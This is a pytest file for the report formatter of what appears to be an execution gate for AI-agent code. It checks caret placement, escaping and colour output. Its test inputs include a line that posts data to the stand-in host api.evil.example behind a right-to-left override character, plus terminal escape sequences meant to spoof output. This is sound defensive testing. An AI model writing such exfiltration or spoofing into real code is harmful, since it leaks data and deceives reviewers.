"""A finding shows two places, and neither the code nor the policy can spoil how it looks."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from execgate.errors import SourceError
from execgate.model.operation import FileOperation, ModuleImport, NetworkCall
from execgate.model.source import Source, Span
from execgate.model.verdict import Clause, Reason, Verdict, Violation
from execgate.report.escape import PLAIN, Style, visible
from execgate.report.snippet import MAX_CELLS, Extract, frame, split_lines
from execgate.report.text import file_text, finding
from execgate.report.values import FileReport

HOSTS = Clause("policies/coder.policy", Span(3, 0, 3, 34), 'allowed_hosts: ["api.example.com"]')


def shown(line: str, start: int, end: int, style: Style = PLAIN) -> tuple[str, str]:
    """Return a line as it is framed, and the line of carets below it."""
    lines = frame(Extract("f", [line]), Span(1, start, 1, end), "", gutter=1, style=style)
    return lines[2].removeprefix("1 | "), lines[3].removeprefix("  | ")


def cells(text: str) -> int:
    return sum(
        0
        if unicodedata.category(char) in {"Mn", "Me"}
        else 2
        if unicodedata.east_asian_width(char) in "WF"
        else 1
        for char in text
    )


def test_a_finding_shows_what_the_code_does_and_which_clause_decided(denied):
    text = 'import requests\n\nname = "\u202eabc"; requests.post("https://api.evil.example/up", data=name)\n'
    report = denied(
        text,
        'requests.post("https://api.evil.example/up", data=name)',
        NetworkCall,
        HOSTS,
        path="step-3.py",
        message="agent `coder` may not reach `api.evil.example:443`",
        help='to permit this host only, add "api.evil.example" to the list',
        destination="api.evil.example",
        port=443,
    )
    assert file_text(report) == (
        "deny[network_call]: agent `coder` may not reach `api.evil.example:443`\n"
        " --> step-3.py:3:16\n"
        "  |\n"
        '3 | name = "\\u{202e}abc"; requests.post("https://api.evil.example/up", data=name)\n'
        "  |                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^"
        " reaches api.evil.example:443\n"
        " --> policies/coder.policy:3:1\n"
        "  |\n"
        '3 | allowed_hosts: ["api.example.com"]\n'
        "  | ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ does not cover it\n"
        '  = help: to permit this host only, add "api.evil.example" to the list\n'
        "\n"
        "deny: step-3.py: agent `coder` may not run it (1 finding)\n"
    )


def test_what_needs_approval_says_escalate(denied):
    text = "import os\n"
    report = denied(text, "import os", ModuleImport, module="os", escalates=True, constraint="gated_imports")
    assert file_text(report) == (
        "escalate[module_import]: not permitted\n"
        " --> job.py:1:1\n"
        "  |\n"
        "1 | import os\n"
        "  | ^^^^^^^^^ imports os\n"
        "\n"
        "escalate: job.py: agent `coder` may run it with approval only (1 finding)\n"
    )


def test_what_an_author_asked_to_be_told_of_is_shown_and_lets_pass(warned):
    assert file_text(warned) == (
        "warn[module_import]: somebody should look\n"
        " --> told.py:1:1\n"
        "  |\n"
        "1 | import os\n"
        "  | ^^^^^^^^^ imports os\n"
        " --> team.policy:7:3\n"
        "  |\n"
        "7 |   rule look_twice {\n"
        "  |   ^^^^^^^^^^^^^^^\n"
        "\n"
        "allow: told.py: agent `coder` may run it (1 operation, 1 warning)\n"
    )
    assert "\x1b[33mwarn[module_import]" in file_text(warned, Style(colour=True))


def test_what_is_allowed_is_one_line(allowed):
    assert file_text(allowed) == "allow: fine.py: agent `coder` may run it (0 operations)\n"


def test_a_clause_that_forbids_and_a_clause_that_lacks_the_constraint_are_told_apart(denied):
    def label(constraint: str, line: str) -> str:
        clause = Clause("p", Span(7, 0, 7, len(line)), line)
        text = file_text(
            denied("import os\n", "import os", ModuleImport, clause, module="os", constraint=constraint)
        )
        return text.split("\n\n")[0].splitlines()[-1].split("^ ")[-1]

    assert label("disallowed_imports", 'disallowed_imports: ["os"]') == "covers it"
    assert label("allowed_imports", 'allowed_imports: ["re"]') == "does not cover it"
    assert (
        label("allowed_hosts", 'can "code_execution" with constraints {')
        == "nothing here says `allowed_hosts`"
    )
    assert label("max_memory", "max_memory: 1_gigabyte").endswith("^")


def test_code_that_does_not_parse_is_shown_with_its_place():
    source = Source("x = (\n", "bad.py")
    error = SourceError("'(' was never closed", line=1, column=4, help="close it")
    report = FileReport("bad.py", "coder", source, error=error)
    assert file_text(report) == (
        "deny[source]: '(' was never closed\n"
        " --> bad.py:1:5\n"
        "  |\n"
        "1 | x = (\n"
        "  |     ^\n"
        "  = help: close it\n"
        "\n"
        "deny: bad.py: agent `coder` may not run it (1 finding)\n"
    )


def test_a_denial_without_violations_still_gives_a_reason(span_of):
    source = Source("import os\n", "job.py")
    verdict = Verdict(source, "coder")
    assert file_text(FileReport("job.py", "coder", source, verdict=verdict)) == (
        "deny[gate]: the verdict is incomplete, so nothing is permitted\n"
        "\n"
        "deny: job.py: agent `coder` may not run it (1 finding)\n"
    )


def test_a_span_over_several_lines_is_bracketed(denied):
    text = "x = 1; open(\n    'a',\n)\n"
    report = denied(text, "open(\n    'a',\n)", FileOperation, operation="read", paths=("a",))
    assert file_text(report).split("\n\n")[0] == (
        "deny[file_operation]: not permitted\n"
        " --> job.py:1:8\n"
        "  |\n"
        "1 |   x = 1; open(\n"
        "  |  ________^\n"
        "2 | |     'a',\n"
        "3 | | )\n"
        "  | |_^ reads a"
    )


def test_a_span_over_many_lines_leaves_the_middle_out(denied):
    body = "".join(f"    {number},\n" for number in range(20))
    report = denied(f"open(\n{body})\n", f"open(\n{body})", FileOperation, operation="read", paths=("a",))
    assert file_text(report).split("\n\n")[0] == (
        "deny[file_operation]: not permitted\n"
        "  --> job.py:1:1\n"
        "   |\n"
        " 1 |   open(\n"
        "   |  _^\n"
        " 2 | |     0,\n"
        "...  |\n"
        "22 | | )\n"
        "   | |_^ reads a"
    )


@pytest.mark.parametrize(
    ("line", "start", "end", "text", "carets"),
    [
        ('x = "日本"; f()', 10, 13, 'x = "日本"; f()', "            ^^^"),
        ("e\u0301 = f()", 5, 8, "e\u0301 = f()", "    ^^^"),
        ("\tf()", 1, 4, "    f()", "    ^^^"),
        ("a\tf()", 2, 5, "a   f()", "    ^^^"),
        ("\x1b[31mf()", 5, 8, "\\u{1b}[31mf()", "          ^^^"),
        ("f()", 3, 3, "f()", "   ^"),
        ("f()", 99, 120, "f()", "   ^"),
        ("", 0, 1, "", "^"),
        ("\u200bf()", 0, 1, "\\u{200b}f()", "^^^^^^^^"),
        ("\u0301f()", 1, 4, "\\u{301}f()", "       ^^^"),
        ("e" + "\u0301" * 5 + "f", 6, 7, "e" + "\u0301" * 3 + "\\u{301}" * 2 + "f", " " * 15 + "^"),
        ("\u3164x", 1, 2, "\\u{3164}x", "        ^"),
        ("x\ufe0f\U000e0101y", 3, 4, "x\\u{fe0f}\\u{e0101}y", " " * 18 + "^"),
    ],
)
def test_carets_stand_below_what_they_mean(line, start, end, text, carets):
    assert shown(line, start, end) == (text.rstrip(), carets)


def test_a_long_line_is_cut_around_what_it_is_shown_for():
    line = "a" * 5000 + "BAD" + "b" * 5000
    text, carets = shown(line, 5000, 5003)
    assert text == "..." + "a" * 30 + "BAD" + "b" * 61 + "..."
    assert carets == " " * 33 + "^^^"


def test_a_span_longer_than_the_line_that_is_shown_ends_with_it():
    text, carets = shown("x" * 5000, 10, 4000)
    assert text == "x" * 94 + "..."
    assert carets == " " * 10 + "^" * 84


def test_a_place_outside_of_the_text_is_named_without_a_snippet():
    assert frame(Extract("f.py", ["x"]), Span(7, 2, 7, 3), "label", gutter=1) == [" --> f.py:7:3"]


def test_lines_end_where_python_ends_them():
    assert split_lines("a\r\nb\rc\nd\x0ce\u2028f\x85g") == ["a", "b", "c", "d\x0ce\u2028f\x85g"]


def test_what_the_output_can_not_hold_is_escaped():
    ascii_style = Style(encoding="ascii")
    assert shown("é = f()", 4, 7, ascii_style) == ("\\u{e9} = f()", "         ^^^")
    assert visible("日本", ascii_style) == "\\u{65e5}\\u{672c}"
    assert visible("日本", Style(encoding="shift_jis")) == "日本"


def test_messages_paths_and_help_are_hostile_too():
    violation = Violation("a\nb", "one\ntwo\x1b[2J" + "x" * 9999, help="three\u202e\nfour")
    text = finding(violation, Extract("f", []))
    assert text == (
        "deny[a\\u{a}b]: one\\u{a}two\\u{1b}[2J" + "x" * 586 + "...\n  = help: three\\u{202e}\\u{a}four"
    )


def test_colours_come_only_when_asked_for(denied):
    report = denied("import os\n", "import os", ModuleImport, module="os")
    plain, coloured = file_text(report), file_text(report, Style(colour=True))
    assert "\x1b" not in plain
    assert coloured.splitlines()[0] == "\x1b[1;31mdeny[module_import]\x1b[0m\x1b[1m: not permitted\x1b[0m"
    stripped = coloured
    for code in ("0", "1", "1;31", "1;34", "1;36"):
        stripped = stripped.replace(f"\x1b[{code}m", "")
    assert stripped == plain


@given(st.text(max_size=300), st.integers(0, 310), st.integers(0, 310), st.sampled_from(["utf-8", "ascii"]))
def test_no_line_of_code_moves_the_cursor_or_the_carets(line, start, length, encoding):
    line = split_lines(line)[0]
    text, carets = shown(line, start, start + length, Style(encoding=encoding))
    for char in text:
        assert char == " " or unicodedata.category(char)[0] in "LMNPS"
    assert cells(text) <= MAX_CELLS + len("\\u{10ffff}")
    assert set(carets.lstrip(" ")) == {"^"}
    text.encode(encoding)


@given(st.text(max_size=200), *[st.integers(0, 400)] * 4)
def test_no_span_defeats_the_frame(text, line, column, lines, end_column):
    report = FileReport(
        "f",
        "a",
        error=SourceError("x", line=line, column=column),
    )
    assert file_text(report)
    span = Span(line, column, line + lines, end_column)
    assert frame(Extract("f", split_lines(text)), span, "label", gutter=4)[0].startswith("    --> f:")


def test_the_reason_of_a_denial_is_kept_apart_from_policy():
    report = FileReport("f", "a", error=SourceError("x"))
    assert [violation.reason for violation in report.violations] == [Reason.ANALYSIS]
